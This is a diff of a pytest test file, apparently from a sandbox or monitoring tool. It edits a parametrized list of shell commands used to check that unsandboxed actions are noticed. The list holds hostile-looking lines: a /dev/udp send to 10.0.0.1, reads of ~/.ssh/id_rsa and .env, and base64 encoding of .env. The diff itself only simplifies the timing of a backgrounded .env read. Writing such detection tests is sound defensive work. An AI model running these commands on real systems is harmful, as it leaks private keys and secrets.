@@ -81,7 +81,7 @@ def open_scene(request: pytest.FixtureRequest) -> Iterator[Scene]:
         ("echo x > /dev/udp/10.0.0.1/53", "sent"),
         ("cat ~/.ssh/id_rsa", "read"),
         ("base64 .env", "read"),
-        ("(sleep 0.2; cat .env > /dev/null) & sleep 0.5", "read"),
+        ("(cat .env > /dev/null) & wait", "read"),
     ],
 )
 def test_without_a_sandbox_it_is_noticed(open_scene: Scene, command: str, did: str) -> None:
